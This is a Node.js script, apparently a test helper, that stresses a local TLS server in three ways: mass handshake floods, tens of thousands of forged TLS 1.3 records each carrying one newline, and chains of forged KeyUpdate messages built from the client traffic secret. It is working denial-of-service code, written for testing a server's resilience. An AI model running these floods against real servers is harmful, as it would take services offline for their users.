/**
 * Keeps a server with TLS at work without a single request, until it is killed: `node tls-attacks.mjs KIND PORT`. In a
 * process of its own, because to attack takes time as well.
 */
import { createCipheriv, createHmac } from 'node:crypto';
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

const [kind, port] = [process.argv[2], Number(process.argv[3])];
const host = '127.0.0.1';
const quiet = (socket) => socket.on('error', () => undefined);

/** The first bytes of a handshake, which cost a client nothing. */
async function clientHello() {
  const server = createServer().listen(0, host);
  await once(server, 'listening');
  const heard = once(server, 'connection').then(([socket]) => once(quiet(socket), 'data'));
  const client = quiet(connectTls({ host, port: server.address().port, rejectUnauthorized: false }));
  const [hello] = await heard;
  client.destroy();
  server.close();
  return hello;
}

async function handshakes() {
  const hello = await clientHello();
  process.stdout.write('begins\n');
  for (;;) {
    const sockets = Array.from({ length: 2500 }, () => quiet(connect(port, host)));
    await Promise.all(sockets.map((socket) => once(socket, 'connect').catch(() => undefined)));
    await wait(200);
    for (const socket of sockets) socket.write(hello);
    await wait(1500);
    for (const socket of sockets) socket.destroy();
  }
}

/**
 * A connection with the first of the secrets that all keys of its client are made of. It has sent one record, a request
 * with a reply, so that it may rest while what follows is made: on a busy machine longer than a head may take.
 */
async function opened() {
  const raw = quiet(connect(port, host));
  const only = { ciphers: 'TLS_AES_128_GCM_SHA256', minVersion: 'TLSv1.3', rejectUnauthorized: false };
  const socket = quiet(connectTls({ socket: raw, ...only }));
  let secret;
  socket.on('keylog', (line) => {
    const [label, , hex] = line.toString().trim().split(' ');
    if (label === 'CLIENT_TRAFFIC_SECRET_0') secret = Buffer.from(hex, 'hex');
  });
  await once(socket, 'secureConnect');
  socket.write('GET /livez HTTP/1.1\r\nHost: gw\r\n\r\n');
  await once(socket, 'data');
  return { raw, secret };
}

function expand(secret, label, length) {
  const full = Buffer.from(`tls13 ${label}`);
  const info = Buffer.concat([Buffer.from([0, length, full.length]), full, Buffer.from([0, 1])]);
  return createHmac('sha256', secret).update(info).digest().subarray(0, length);
}

/** A record of a few bytes, the last of which names what they are. */
function record(bytes, { key, iv, number = 0 }) {
  const header = Buffer.from([23, 3, 3, 0, bytes.length + 16]);
  const nonce = Buffer.from(iv);
  nonce.writeUInt32BE((nonce.readUInt32BE(8) ^ number) >>> 0, 8);
  const cipher = createCipheriv('aes-128-gcm', key, nonce).setAAD(header);
  return [header, cipher.update(bytes), cipher.final(), cipher.getAuthTag()];
}

function manyRecords(next) {
  return Buffer.concat(Array.from({ length: 40_000 }, next).flat());
}

/** Line ends before a request, each in a record of its own. */
function lineEnds(secret) {
  const [key, iv] = [expand(secret, 'key', 16), expand(secret, 'iv', 12)];
  const lineEnd = Buffer.from([10, 23]);
  let number = 1;
  return manyRecords(() => record(lineEnd, { key, iv, number: number++ }));
}

/** New keys, one after the other, which Node sends none of by itself. */
function newKeys(secret) {
  const update = Buffer.from([24, 0, 0, 1, 0, 22]);
  let [present, number] = [secret, 1];
  return manyRecords(() => {
    const sent = record(update, { key: expand(present, 'key', 16), iv: expand(present, 'iv', 12), number });
    number = 0;
    present = expand(present, 'traffic upd', 32);
    return sent;
  });
}

/** All of it is made before, for that takes longer than to read it. */
async function flood(count, make) {
  const connections = await Promise.all(Array.from({ length: count }, opened));
  const all = connections.map(({ raw, secret }) => ({ raw, bytes: make(secret) }));
  process.stdout.write('begins\n');
  for (const { raw, bytes } of all) raw.write(bytes);
}

if (kind === 'handshakes') await handshakes();
else if (kind === 'records') await flood(5, lineEnds);
else await flood(2, newKeys);
